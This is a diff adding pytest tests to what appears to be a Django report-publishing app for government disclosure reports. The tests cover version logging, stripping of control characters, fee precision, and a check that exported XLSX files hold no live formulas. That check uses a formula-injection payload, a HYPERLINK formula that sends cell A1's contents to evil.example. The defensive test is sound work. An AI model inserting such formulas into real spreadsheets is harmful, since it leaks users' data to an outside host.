@@ -75,6 +75,12 @@ def test_republishing_makes_a_new_version_with_a_correction_note(records, office
     second = services.publish(actor=office, report=report, correction="补录一件2025年7月的申请。")
     assert second.number == 2 and second.document["correction"] == "补录一件2025年7月的申请。"
     assert list(selectors.public_versions()) == [second]
+    # Search (issue #9): each publication logs the new version and the one it replaces.
+    from gongkai.search.models import Change
+
+    first = second.report.versions.get(number=1)
+    assert list(Change.objects.filter(kind="report").values_list("object_id", flat=True)) == [
+        first.pk, second.pk, first.pk]
 
 
 def test_a_report_failing_a_rule_cannot_be_published(records, office, bodies):
@@ -218,3 +224,49 @@ def test_staff_api_goes_through_the_same_services(records, office, branch_clerk,
     assert clerk.post("/api/v1/staff/reports/annual/", {"body": "350400", "year": 2025},
                       content_type="application/json").status_code == 403
     assert [r["body"] for r in clerk.get("/api/v1/staff/reports/annual/").json()] == []
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+
+
+def formulas(data: bytes) -> list:
+    import io
+
+    from openpyxl import load_workbook
+
+    wb = load_workbook(io.BytesIO(data))
+    return [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_typed_text_never_becomes_a_formula_or_breaks_the_documents(records, office, bodies, client):
+    """privacy-lessons.md / portal safety: a published XLSX holds data, never a live formula; text
+    pasted from Word (a vertical tab for a line break, other control characters) is cleaned."""
+    report = services.open_report(actor=office, body=bodies["city"], year=2025)
+    services.save_text(actor=office, report=report, overview="全年\x08主动公开。\x0b第二行", problems="问题\x1f一",
+                       other_matters=FORMULA)
+    services.adjust(actor=office, report=report, section="二", row="licence", column="decisions", value="1300",
+                    reason=FORMULA)
+    report.refresh_from_db()
+    assert report.overview == "全年主动公开。\n第二行" and report.problems == "问题一"
+    version = services.publish(actor=office, report=report)
+    assert formulas(bytes(version.xlsx)) == []
+    assert FORMULA in "".join(str(c.value) for ws in __import__("openpyxl").load_workbook(
+        __import__("io").BytesIO(bytes(version.xlsx))).worksheets for row in ws.iter_rows() for c in row)
+    from gongkai.reports import legacy
+
+    template = legacy.save_template(actor=office, name="测试", title="{主体}{年度}年表", year_label="{年度}年度",
+                                    rows=[{"label": FORMULA, "measure": "applications_received"}])
+    client.force_login(office)
+    data = client.get(f"/workbench/reports/legacy/table/{template.pk}/xlsx/?body=350400&year=2025").content
+    assert formulas(data) == []
+    assert client.get("/workbench/reports/legacy/templates/new/?from=abc").status_code == 404
+
+
+def test_fee_adjustments_keep_at_most_four_decimals(records, office, bodies):
+    report = services.open_report(actor=office, body=bodies["city"], year=2025)
+    with pytest.raises(ValidationError, match="最多保留四位小数"):
+        services.adjust(actor=office, report=report, section="二", row="fee", column="amount", value="0.00001",
+                        reason="纸质台账补录")
+    adjustment = services.adjust(actor=office, report=report, section="二", row="fee", column="amount",
+                                 value="12.3457", reason="纸质台账补录")
+    assert str(adjustment.value) == "12.3457"
